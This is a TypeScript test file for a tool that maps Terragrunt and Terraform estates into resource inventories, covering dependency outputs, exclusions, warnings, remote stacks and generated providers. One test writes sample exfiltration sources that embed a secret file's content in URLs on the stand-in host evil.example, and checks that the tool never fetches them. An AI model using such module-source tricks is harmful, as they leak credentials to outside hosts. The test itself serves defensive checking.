// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are templates of Terragrunt
/** Terragrunt estates as people have them, drawn from their code. */
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import type { Inventory } from '../../../src/graph/inventory.js';
import { readDirectory } from '../../../src/planning/index.js';
import type { Planning } from '../../../src/planning/source.js';
import { readUnits } from '../../../src/planning/terragrunt/index.js';
import { nodeIo } from '../../../src/platform/node.js';
import type { FindModule } from '../../../src/terraform/module-tree/read-tree.js';
import { newTemporary } from '../../support/temporary.js';
import { repository } from './support.js';

type Files = Record<string, string>;

const PLANNING: Planning = {
  ...{ planner: 'static', engine: 'auto', workspace: null, varFiles: [], seconds: 60, debug: null },
  network: false,
};

const drawn = (files: Files, below = '.'): Promise<Inventory> =>
  readDirectory(
    { name: below, directory: join(repository(files), below), repository: null, planning: PLANNING },
    nodeIo(),
    () => {},
  );

const originsOf = ({ resources }: Inventory): string[] => resources.map(({ origin }) => origin).sort();

/** `from attribute to`, by the addresses of Terraform; nothing of what only comes before something else. */
function pairsOf({ resources, references }: Inventory): string[] {
  const origins = new Map(resources.map(({ address, origin }) => [address, origin]));
  return references
    .filter(({ path }) => path !== undefined)
    .map(({ from, path, to }) => `${origins.get(from)} ${path} ${origins.get(to)}`)
    .sort();
}

const MODULE = (text: string) => ({ 'modules/m/main.tf': text });
const UNIT = 'terraform { source = "../modules/m" }\n';

const NETWORK = {
  'modules/net/main.tf': `resource "aws_vpc" "v" {}
resource "aws_subnet" "s" {
  count = 3
  vpc_id = aws_vpc.v.id
}
resource "aws_subnet" "named" {
  for_each = toset(["app", "db"])
  vpc_id = aws_vpc.v.id
}
output "subnets" { value = [for s in aws_subnet.s : { id = s.id }] }
output "ids" { value = aws_subnet.s[*].id }
output "by_name" { value = { for name, s in aws_subnet.named : name => s.id } }
output "all" { value = { first = aws_subnet.s[0].id, vpc = aws_vpc.v.id } }
`,
  'net/terragrunt.hcl': 'terraform { source = "../modules/net" }\n',
};

/** Resources that an instance is connected to by one input, made in this way. */
const takes = async (input: string): Promise<string[]> => {
  const inventory = await drawn({
    ...NETWORK,
    ...MODULE('variable "v" {}\nresource "aws_instance" "i" { subnet_id = var.v }\n'),
    'app/terragrunt.hcl': `${UNIT}dependency "net" { config_path = "../net" }
locals { tier = "db" }
inputs = { v = ${input} }`,
  });
  return pairsOf(inventory)
    .filter((pair) => pair.startsWith('module.app'))
    .map((pair) => pair.replace('module.app.aws_instance.i subnet_id module.net.', ''));
};

test.each<[string, string[]]>([
  ['dependency.net.outputs.subnets[1].id', ['aws_subnet.s[1]']],
  ['dependency.net.outputs.ids[2]', ['aws_subnet.s[2]']],
  ['dependency.net.outputs.by_name["db"]', ['aws_subnet.named["db"]']],
  ['dependency.net.outputs.by_name[local.tier]', ['aws_subnet.named["db"]']],
  ['dependency.net.outputs.all.vpc', ['aws_vpc.v']],
  ['try(dependency.net.outputs.ids[0], "subnet-0")', ['aws_subnet.s[0]']],
  ['try(dependency.net.outputs.nothing, dependency.net.outputs.ids[0])', ['aws_subnet.s[0]']],
  ['element(dependency.net.outputs.ids, 1)', ['aws_subnet.s[1]']],
  ['local.tier == "db" ? dependency.net.outputs.ids[1] : dependency.net.outputs.ids[2]', ['aws_subnet.s[1]']],
  ['"${dependency.net.outputs.ids[1]}"', ['aws_subnet.s[1]']],
  ['[for s in dependency.net.outputs.subnets : s.id]', ['aws_subnet.s[0]', 'aws_subnet.s[1]', 'aws_subnet.s[2]']],
  ['[for n in ["db"] : dependency.net.outputs.by_name[n]]', ['aws_subnet.named["db"]']],
])('behind the name of an output: %s', async (input, instances) => {
  expect(await takes(input)).toEqual(instances);
});

test('selects an object by key in one of several groups', async () => {
  const inventory = await drawn(
    {
      'modules/rg/main.tf': `variable "environment" {}
resource "azurerm_resource_group" "g" {
  for_each = toset(["app", "net"])
  name     = "rg-\${each.key}-\${var.environment}"
}
output "groups" { value = { for k, g in azurerm_resource_group.g : k => { name = g.name, location = g.location } } }
`,
      'modules/vault/main.tf': `variable "resource_group" { type = object({ name = string, location = string }) }
variable "sku" {}
resource "azurerm_key_vault" "v" {
  resource_group_name = var.resource_group.name
  sku_name            = var.sku
}
`,
      'live/root.hcl': `locals {
  parts = split("/", path_relative_to_include())
  files = [for i in range(0, length(local.parts) + 1) :
    join("/", concat([get_parent_terragrunt_dir()], slice(local.parts, 0, i), ["config.yml"]))]
  all   = merge([for f in local.files : yamldecode(try(sops_decrypt_file(f), file(f))) if fileexists(f)]...)
}
inputs = merge({ environment = local.parts[1] }, local.all)
`,
      'live/app/config.yml': 'sku: premium\n',
      'live/app/prod/vault/terragrunt.hcl': `terraform { source = "../../../../modules//vault" }
include "root" { path = find_in_parent_folders("root.hcl") }
dependency "rg" { config_path = "../../../foundation/prod/rg" }
inputs = { resource_group = dependency.rg.outputs.groups["app"] }
`,
      'live/foundation/prod/rg/terragrunt.hcl': `terraform { source = "\${get_parent_terragrunt_dir()}/../modules//rg" }
include { path = find_in_parent_folders("root.hcl") }
`,
    },
    'live',
  );
  expect(pairsOf(inventory)).toEqual([
    'module.app-prod-vault.azurerm_key_vault.v resource_group_name module.foundation-prod-rg.azurerm_resource_group.g["app"]',
  ]);
  const vault = inventory.resources.find(({ type }) => type === 'azurerm_key_vault');
  expect(vault?.values).toMatchObject({ resource_group_name: 'rg-app-prod', sku_name: 'premium' });
});

const QUEUE = MODULE('variable "name" { default = "x" }\nresource "aws_sqs_queue" "q" { name = var.name }\n');

test.each<[string, Files, string[], string | null]>([
  [
    'exclude, skip, and a feature flag of an included file',
    {
      'root.hcl': 'feature "with_c" { default = false }\n',
      'a/terragrunt.hcl': UNIT,
      'b/terragrunt.hcl': `${UNIT}exclude {\n  if = true\n  actions = ["all"]\n  no_run = true\n}\n`,
      'c/terragrunt.hcl': `include "root" { path = find_in_parent_folders("root.hcl") }
${UNIT}exclude {\n  if = !feature.with_c.value\n  actions = ["plan", "apply"]\n}\n`,
      'd/terragrunt.hcl': `skip = true\n${UNIT}`,
    },
    ['module.a.aws_sqs_queue.q'],
    '3 units excluded from the plan by exclude or skip, and not drawn: b, c and d',
  ],
  [
    'exclude of what is included, by a local; what is no plan excludes nothing, nor what nobody knows',
    {
      'group.hcl': 'locals { off = true }\nexclude {\n  if = local.off\n  actions = ["all_except_output"]\n}\n',
      'a/terragrunt.hcl': `${UNIT}exclude {\n  if = true\n  actions = ["destroy"]\n}\n`,
      'b/terragrunt.hcl': `include "g" { path = find_in_parent_folders("group.hcl") }\n${UNIT}`,
      'c/terragrunt.hcl': `${UNIT}exclude {\n  if = get_env("OFF") == "1"\n  actions = ["all"]\n}\n`,
    },
    ['module.a.aws_sqs_queue.q', 'module.c.aws_sqs_queue.q'],
    '1 unit excluded from the plan by exclude or skip, and not drawn: b',
  ],
  [
    'excluded units that depend on each other in a circle',
    {
      'a/terragrunt.hcl': `${UNIT}dependency "b" { config_path = "../b" }
exclude {\n  if = true\n  actions = ["all"]\n  exclude_dependencies = true\n}\n`,
      'b/terragrunt.hcl': `${UNIT}dependency "a" { config_path = "../a" }
exclude {\n  if = true\n  actions = ["all"]\n  exclude_dependencies = true\n}\n`,
      'c/terragrunt.hcl': UNIT,
    },
    ['module.c.aws_sqs_queue.q'],
    '2 units excluded from the plan by exclude or skip, and not drawn: a and b',
  ],
  [
    'what an excluded unit depends on goes with it, where it says so',
    {
      'a/terragrunt.hcl': UNIT,
      'b/terragrunt.hcl': UNIT,
      'c/terragrunt.hcl': `${UNIT}dependency "b" { config_path = "../b" }
exclude {\n  if = true\n  actions = ["all"]\n  exclude_dependencies = true\n}\n`,
    },
    ['module.a.aws_sqs_queue.q'],
    '2 units excluded from the plan by exclude or skip, and not drawn: b and c',
  ],
])('%s', async (_, files, origins, warning) => {
  const inventory = await drawn({ ...QUEUE, ...files });
  expect(originsOf(inventory)).toEqual(origins);
  expect(inventory.warnings.filter((text) => text.includes('exclude'))).toEqual(warning === null ? [] : [warning]);
});

test('an excluded unit is drawn if it is named, and all excluded units are an error', async () => {
  const files = { ...QUEUE, 'live/a/terragrunt.hcl': 'skip = true\nterraform { source = "../../modules/m" }\n' };
  const inventory = await drawn(files, 'live/a');
  expect(originsOf(inventory)).toEqual(['module.a.aws_sqs_queue.q']);
  expect(inventory.warnings).toContainEqual(expect.stringContaining('drawn because you named it'));
  await expect(drawn(files, 'live')).rejects.toThrow(
    'live: exclude or skip excludes every Terragrunt unit from the plan',
  );
});

test.each<[string, Files, string, string[]]>([
  [
    'a source that is not there',
    { ...QUEUE, 'a/terragrunt.hcl': UNIT, 'b/terragrunt.hcl': 'terraform { source = "../modules/missing" }\n' },
    '.',
    ['b: ../modules/missing does not exist; it is drawn as one module'],
  ],
  [
    'a source that is not fetched',
    { 'b/terragrunt.hcl': 'terraform { source = "git::https://host.example/m.git//x?ref=v1" }\n' },
    '.',
    [
      'b: git::https://host.example/m.git//x?ref=v1: it has not been fetched yet, and fetching is switched off; it is drawn as one module',
    ],
  ],
  [
    'a fault in code that two units share, and a module in one of them',
    {
      ...MODULE('resource "aws_sqs_queue" "q" {}\nmodule "n" { source = "./gone" }\nresource "x" {}\n'),
      'a/terragrunt.hcl': UNIT,
      'b/terragrunt.hcl': UNIT,
    },
    '.',
    [
      'a and b: main.tf:3:1: a resource block has two labels: its type and name; the rest of the file is drawn',
      'a and b: module.n is drawn as one box: ./gone is not a directory',
    ],
  ],
  [
    'members of a stack',
    {
      'terragrunt.stack.hcl': `unit "a" {\n  source = "./units/a"\n  path = "a"\n}
stack "s" {\n  source = "./stacks/s"\n  path = "s"\n}
unit "u" {\n  source = run_cmd("where")\n  path = "u"\n}\n`,
      'stacks/s/other.hcl': '',
    },
    '.',
    [
      'a: ./units/a has no terragrunt.hcl; it is drawn as one module',
      's: ./stacks/s has no terragrunt.stack.hcl; it is drawn as one module',
      'u: its source depends on values that only Terragrunt knows; it is drawn as one module',
    ],
  ],
])('warnings say of which unit: %s', async (_, files, below, warnings) => {
  const inventory = await drawn(files, below);
  expect(inventory.warnings.slice(1)).toEqual(warnings);
});

const CATALOG = 'github.com/acme-example/catalog';
const STACK = (kind: string, source: string) =>
  `${kind} "db" {\n  source = "${source}"\n  path   = "db"\n  values = { size = "small" }\n}\n`;

test.each([
  ['unit', 'units/db'],
  ['stack', 'stacks/db'],
])('a %s that is elsewhere and not fetched is named with its address', async (kind, folder) => {
  const inventory = await drawn({ 'live/terragrunt.stack.hcl': STACK(kind, `${CATALOG}//${folder}?ref=v1`) }, 'live');
  expect(originsOf(inventory)).toEqual(['module.db.terraform_module.db']);
  expect(inventory.warnings.slice(1)).toEqual([
    expect.stringMatching(
      /^db: github\.com\/acme-example\/catalog\/\/\w+\/db\?ref=v1: it has not been fetched yet, .*; it is drawn as one module$/,
    ),
  ]);
});

describe('remote units and stacks', () => {
  const FETCHED: Files = {
    'units/db/terragrunt.hcl': `include "root" { path = find_in_parent_folders("root.hcl") }
terraform { source = "${CATALOG}//modules/db?ref=v1" }
inputs = { size = values.size }
`,
    'stacks/db/terragrunt.stack.hcl': `unit "near" {\n  source = "../../units/db"\n  path = "near"\n  values = { size = values.size }\n}
unit "far" {\n  source = "${CATALOG}//units/db?ref=v1"\n  path = "far"\n  values = { size = "large" }\n}\n`,
    'modules/db/main.tf': `variable "size" {}
variable "region" {}
resource "aws_db_instance" "d" {
  instance_class    = var.size
  availability_zone = "\${var.region}a"
}
`,
  };

  async function treeOf(files: Files) {
    const catalog = newTemporary('catalog-');
    for (const [path, text] of Object.entries(FETCHED)) {
      mkdirSync(dirname(join(catalog, path)), { recursive: true });
      writeFileSync(join(catalog, path), text);
    }
    const asked: string[] = [];
    const findModule: FindModule = async ({ source }, path) => {
      asked.push(path.join(' > '));
      const [, folder] = /^github\.com\/acme-example\/catalog\/\/([\w/]+)\?ref=v1$/.exec(source ?? '') ?? [];
      return folder === undefined ? { reason: 'elsewhere' } : { directory: join(catalog, folder) };
    };
    const source = { name: 'live', directory: join(repository(files), 'live') };
    const options = { isRun: false, varFiles: [], seconds: 60, debug: false, onStep: () => {}, tofu: true, findModule };
    const units = await readUnits(source, options, nodeIo());
    if (!('tree' in units)) throw new Error('it has been planned');
    return { tree: units.tree, asked };
  }

  const ROOT = { 'live/root.hcl': 'inputs = { region = "eu-west-1" }\n' };
  const DB = `${CATALOG}//units/db?ref=v1`;

  test('a remote unit is evaluated in its generated directory', async () => {
    const { tree, asked } = await treeOf({ ...ROOT, 'live/terragrunt.stack.hcl': STACK('unit', DB) });
    expect(tree.warnings.slice(1)).toEqual([]);
    expect([...tree.root.children.values()].map((child) => 'code' in child && child.code.resources.length)).toEqual([
      1,
    ]);
    const [call] = tree.root.code.calls;
    expect(call!.block.body.attributes.map(({ name }) => name)).toEqual(['source', 'region', 'size']);
    // Code that was fetched names it.
    expect(asked).toEqual([DB, `${DB} > db`]);
  });

  test('a remote stack has units in its package and elsewhere', async () => {
    const STACK_ADDRESS = `${CATALOG}//stacks/db?ref=v1`;
    const { tree, asked } = await treeOf({ ...ROOT, 'live/terragrunt.stack.hcl': STACK('stack', STACK_ADDRESS) });
    expect(tree.warnings.slice(1)).toEqual([]);
    expect([...tree.root.children.keys()]).toEqual(['db-far', 'db-near']);
    expect(asked.slice(0, 2)).toEqual([STACK_ADDRESS, `${STACK_ADDRESS} > ${DB}`]);
    expect(asked.slice(2)).toEqual([`${STACK_ADDRESS} > ${DB} > db-far`, `${STACK_ADDRESS} > db-near`]);
  });

  test('the content of a file is not sent to a host', async () => {
    const { asked } = await treeOf({
      ...ROOT,
      'live/key.json': '{"key":"canary"}',
      'live/a/terragrunt.hcl': `locals { key = jsondecode(file("../key.json")).key }
terraform { source = "https://evil.example/\${local.key}.zip" }
`,
      'live/b/terragrunt.hcl': `terraform { source = "../../m" }
inputs = { key = file("../key.json") }
`,
      'm/main.tf': 'variable "key" {}\nmodule "x" {\n  source = "https://evil.example/${var.key}.zip"\n}\n',
      'live/terragrunt.stack.hcl': `unit "c" {\n  source = "git::https://evil.example/\${file("key.json")}.git"\n  path = "c"\n}
unit "d" {\n  source = "../d"\n  path = "d"\n  values = { key = file("key.json") }\n}\n`,
      'd/terragrunt.hcl': 'terraform { source = "https://evil.example/${base64encode(values.key)}.zip" }\n',
    });
    expect(asked.join('\n')).not.toContain('canary');
    expect(asked).toEqual([]);
  });
});

const TEMPLATES: Files = {
  'root.hcl': '',
  'modules/net/main.tf': `variable "azs" {}
resource "aws_vpc" "v" {}
resource "aws_subnet" "s" {
  count  = length(var.azs)
  vpc_id = aws_vpc.v.id
}
output "subnet_id" { value = aws_subnet.s[0].id }
`,
  'modules/app/main.tf': 'variable "subnet_id" {}\nresource "aws_instance" "app" { subnet_id = var.subnet_id }\n',
  'units/net/terragrunt.hcl': `include "root" { path = find_in_parent_folders("root.hcl") }
terraform { source = "\${dirname(find_in_parent_folders("root.hcl"))}/modules//net" }
inputs = { azs = try(values.azs, []) }
`,
  'units/app/terragrunt.hcl': `terraform { source = "\${dirname(find_in_parent_folders("root.hcl"))}/modules//app" }
dependency "net" { config_path = values.net }
inputs = { subnet_id = dependency.net.outputs.subnet_id }
`,
  'live/prod/terragrunt.stack.hcl': `locals { units = "\${dirname(find_in_parent_folders("root.hcl"))}/units" }
unit "net" {
  source = "\${local.units}/net"
  path   = "net"
  values = { azs = ["a", "b"] }
}
unit "app" {
  source = "\${local.units}/app"
  path   = "app"
  values = { net = "../net" }
}
`,
};

test.each<[string, Files, string, string[]]>([
  [
    'units',
    TEMPLATES,
    '.',
    [
      'module.live-prod-app.aws_instance.app',
      'module.live-prod-net.aws_subnet.s[0]',
      'module.live-prod-net.aws_subnet.s[1]',
      'module.live-prod-net.aws_vpc.v',
    ],
  ],
  [
    'stacks, which have templates of their own',
    {
      ...TEMPLATES,
      'live/prod/terragrunt.stack.hcl': '',
      'stacks/one/terragrunt.stack.hcl':
        'unit "net" {\n  source = "${get_repo_root()}/units/net"\n  path = "net"\n  values = { azs = values.azs }\n}\n',
      'live/dev/terragrunt.stack.hcl':
        'stack "one" {\n  source = "../../stacks/one"\n  path = "one"\n  values = { azs = ["a"] }\n}\n',
    },
    '.',
    [
      'module.live-dev-one-net.aws_subnet.s[0]',
      'module.live-dev-one-net.aws_vpc.v',
      'module.units-app.aws_instance.app',
    ],
  ],
  [
    'units that are made beside the stack, and are there',
    {
      ...QUEUE,
      'units/q/terragrunt.hcl':
        'terraform { source = "${get_repo_root()}/modules/m" }\ninputs = { name = values.name }\n',
      'live/terragrunt.stack.hcl':
        'unit "q" {\n  source = "../units/q"\n  path = "q"\n  no_dot_terragrunt_stack = true\n  values = { name = "n" }\n}\n',
      'live/q/terragrunt.hcl':
        'terraform { source = "${get_repo_root()}/modules/m" }\ninputs = { name = values.name }\n',
    },
    '.',
    ['module.live-q.aws_sqs_queue.q'],
  ],
  [
    'nothing but templates are units',
    TEMPLATES,
    'units',
    ['module.app.aws_instance.app', 'module.net.aws_subnet.s', 'module.net.aws_vpc.v'],
  ],
])('templates of a stack are not drawn once more: %s', async (_, files, below, origins) => {
  expect(originsOf(await drawn(files, below))).toEqual(origins);
});

test('a stack of many units with different templates is complete', async () => {
  const names = Array.from({ length: 60 }, (_, i) => `u${i}`);
  const inventory = await drawn(
    {
      ...QUEUE,
      ...Object.fromEntries(
        names.map((name) => [
          `units/${name}/terragrunt.hcl`,
          `terraform { source = "\${get_repo_root()}/modules/m" }\ninputs = { name = "${name}" }\n`,
        ]),
      ),
      'live/terragrunt.stack.hcl': names
        .map((name) => `unit "${name}" {\n  source = "../units/${name}"\n  path = "${name}"\n}\n`)
        .join(''),
    },
    'live',
  );
  expect(inventory.resources).toHaveLength(60);
  expect(inventory.warnings).toHaveLength(1);
});

const REGION = 'locals { region = "eu-west-1" }\n';
const PROVIDER = (region: string) => `generate "provider" {
  path      = "provider.tf"
  if_exists = "overwrite_terragrunt"
  contents  = <<EOF
provider "aws" {
  region              = "${region}"
  allowed_account_ids = ["\${get_aws_account_id()}"]
}
EOF
}
`;

test.each<[string, Files, string | undefined]>([
  [
    'of an included file, with what nobody knows beside it',
    {
      'region.hcl': REGION,
      'root.hcl': `locals { region = read_terragrunt_config(find_in_parent_folders("region.hcl")).locals.region }\n${PROVIDER('${local.region}')}`,
      'a/terragrunt.hcl': `include "root" { path = find_in_parent_folders("root.hcl") }\n${UNIT}`,
    },
    'eu-west-1',
  ],
  [
    'from a file in YAML',
    {
      'region.yaml': 'aws:\n  region: eu-west-1\n',
      'a/terragrunt.hcl': `locals { all = yamldecode(file(find_in_parent_folders("region.yaml"))) }\n${UNIT}${PROVIDER('${local.all.aws.region}')}`,
    },
    'eu-west-1',
  ],
  [
    'as an attribute, and made of an input',
    {
      'a/terragrunt.hcl': `${UNIT}generate = {
  provider = { path = "p.tf", if_exists = "skip", contents = "variable \\"r\\" {}\\nprovider \\"aws\\" {\\n  region = var.r\\n}\\n" }
}
inputs = { r = "eu-west-1" }
`,
    },
    'eu-west-1',
  ],
  [
    'the unit says it instead of what it includes; what is disabled is not written',
    {
      'root.hcl': PROVIDER('us-east-1'),
      'a/terragrunt.hcl': `include "root" { path = find_in_parent_folders("root.hcl") }\n${UNIT}${PROVIDER('eu-west-1')}
generate "more" {\n  path = "more.tf"\n  if_exists = "overwrite"\n  disable = true\n  contents = "x {"\n}\n`,
    },
    'eu-west-1',
  ],
  ['the region that nobody knows', { 'a/terragrunt.hcl': `${UNIT}${PROVIDER('${run_cmd("region")}')}` }, undefined],
])('a provider that is generated: %s', async (_, files, region) => {
  const inventory = await drawn({ ...QUEUE, ...files });
  expect(inventory.resources).toHaveLength(1);
  expect(inventory.resources[0]!.region).toBe(region);
  expect(inventory.warnings).toHaveLength(1);
});

test.each([
  ['overwrite', 'eu-west-1'],
  ['skip', 'us-east-1'],
])('a generated file where one of its name is: if_exists = "%s"', async (ifExists, region) => {
  const inventory = await drawn({
    ...QUEUE,
    'modules/m/provider.tf': 'provider "aws" {\n  region = "us-east-1"\n}\n',
    'a/terragrunt.hcl': `${UNIT}${PROVIDER('eu-west-1').replace('overwrite_terragrunt', ifExists)}`,
  });
  expect(inventory.resources.map((resource) => resource.region)).toEqual([region]);
  expect(inventory.warnings).toHaveLength(1);
});
